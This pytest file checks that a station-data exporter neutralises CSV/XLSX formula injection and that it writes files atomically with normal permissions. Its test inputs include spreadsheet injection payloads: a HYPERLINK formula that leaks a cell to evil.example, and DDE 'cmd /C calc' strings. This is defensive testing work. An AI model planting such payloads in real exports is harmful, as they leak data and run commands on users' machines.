"""Injection through exported data (issue #15): formula-leading text is neutralised in CSV (a leading
``'``, OWASP) and written as string cells in XLSX, the stored value unchanged and read back intact;
one control character does not break an XLSX export; exports are written to a temporary file and
renamed; an unwritable ``--out`` is one line and exit 2."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from api.cli import app as cli_app
from geo.errors import InputError
from geo.stations import export_stations, read_station_file, records_to_frame
from geo.text import atomic_path, neutralise_formula, unneutralise_formula

#: formula-leading values (the trial's HYPERLINK that leaks a neighbouring cell, a DDE payload, ...)
PAYLOADS = {
    "name": '=HYPERLINK("http://evil.example/?"&C2,"点我")',
    "address": "+cmd|' /C calc'!A0",
    "phone": "-2+3",
    "host_org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "township_name": "\t=1+1",
    "county_name": "\r=1+1",
}


def _frame(**extra: str) -> object:
    rec = {"external_id": "X1", "source": "t", "kind": "union_station", "status": "open", "amenities": [],
           "lon": 113.9365, "lat": 22.5405, "source_crs": "wgs84", **PAYLOADS, **extra}  # fmt: skip
    return records_to_frame([rec, {**rec, "external_id": "X2", "name": "普通驿站", "lon": 113.95}])


def test_neutralise_round_trip() -> None:
    for value in [*PAYLOADS.values(), "'=already quoted", "''+1", "普通", "'plain", "'"]:
        assert unneutralise_formula(neutralise_formula(value)) == value
    assert neutralise_formula("=1") == "'=1" and neutralise_formula(5) == 5


def test_csv_cells_are_neutralised_and_read_back_unchanged(tmp_path: Path) -> None:
    path = export_stations(_frame(), tmp_path / "s.csv")  # type: ignore[arg-type]
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for field, value in PAYLOADS.items():
        assert rows[0][field] == "'" + value, field
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    back = read_station_file(path).frame
    for field, value in PAYLOADS.items():
        expected = value.strip() if field != "county_name" else value.replace("\r", "\n").strip()
        assert back.iloc[0][field] == expected, field


def test_xlsx_has_string_cells_only(tmp_path: Path) -> None:
    path = export_stations(_frame(), tmp_path / "s.xlsx")  # type: ignore[arg-type]
    ws = load_workbook(path).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in next(ws.iter_rows())]
    first = {h: c.value for h, c in zip(header, next(ws.iter_rows(min_row=2)), strict=True)}
    for field, value in PAYLOADS.items():
        assert first[field] == value.replace("\r", "\n"), field  # the value as text (XML reads CR as LF)


def test_one_control_character_does_not_break_xlsx(tmp_path: Path) -> None:
    path = export_stations(_frame(name="坏\x01名字"), tmp_path / "s.xlsx")  # type: ignore[arg-type]
    ws = load_workbook(path).active
    assert ws is not None
    names = [r[3] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert names == ["坏\ufffd名字", "普通驿站"]  # every row written, the character replaced


def test_failed_export_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    target = tmp_path / "s.geojson"
    target.write_text('{"old": true}')
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_text("half a fi")
        raise RuntimeError("disk full")
    assert json.loads(target.read_text()) == {"old": True}
    assert [p.name for p in tmp_path.iterdir()] == ["s.geojson"]


def test_unwritable_out_is_one_line_exit_2(tmp_path: Path, database_url: str) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(InputError) as err:
        export_stations(_frame(), blocker / "s.csv")  # type: ignore[arg-type]
    assert err.value.field == "out"
    result = CliRunner().invoke(cli_app, ["stations", "export", "--out", str(blocker / "s.csv")])
    assert result.exit_code == 2, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: cannot write"), result.stderr


@pytest.mark.parametrize("umask", [0o022, 0o027, 0o002])
def test_atomically_written_files_have_the_permissions_of_any_new_file(tmp_path: Path, umask: int) -> None:
    """0666 less the umask, as ``open()`` gives (mkstemp's 0600 would survive the rename)."""
    import os

    import pandas as pd

    from geo.text import write_csv, write_xlsx

    previous = os.umask(umask)
    try:
        frame = pd.DataFrame({"名称": ["驿站"], "n": [1]})
        written = [write_csv(frame, tmp_path / "t.csv"), write_xlsx({"Sheet1": frame}, tmp_path / "t.xlsx"),
                   export_stations(_frame(), tmp_path / "s.csv")]  # type: ignore[arg-type]
        with atomic_path(tmp_path / "t.json") as tmp:
            tmp.write_text("{}")
        written.append(tmp_path / "t.json")
        (tmp_path / "plain.txt").write_text("x")
    finally:
        os.umask(previous)
    expected = 0o666 & ~umask
    assert (tmp_path / "plain.txt").stat().st_mode & 0o777 == expected
    assert {p.name: p.stat().st_mode & 0o777 for p in written} == {p.name: expected for p in written}


@pytest.mark.parametrize("city", ["changsha_osm_planner/changsha_yuelu_taozihu_map.osm",
                                  "shanghai_le_degn/shanghai_jingan_huangpu_drive.osm"])  # fmt: skip
def test_network_files_have_the_permissions_of_any_new_file(tmp_path: Path, city: str) -> None:
    """A network .npz another user's server or notebook reads is 0644 under umask 022 (was 0600)."""
    import os

    from geo.config import data_dir
    from geo.network import load_network, read_network_npz, save_network

    net = load_network(data_dir() / city, mode="walk")
    previous = os.umask(0o022)
    try:
        path = save_network(net, tmp_path / "walk.npz")
    finally:
        os.umask(previous)
    assert path.stat().st_mode & 0o777 == 0o644
    assert read_network_npz(path).n_arcs == net.n_arcs
    assert not list(tmp_path.glob(".*tmp*"))
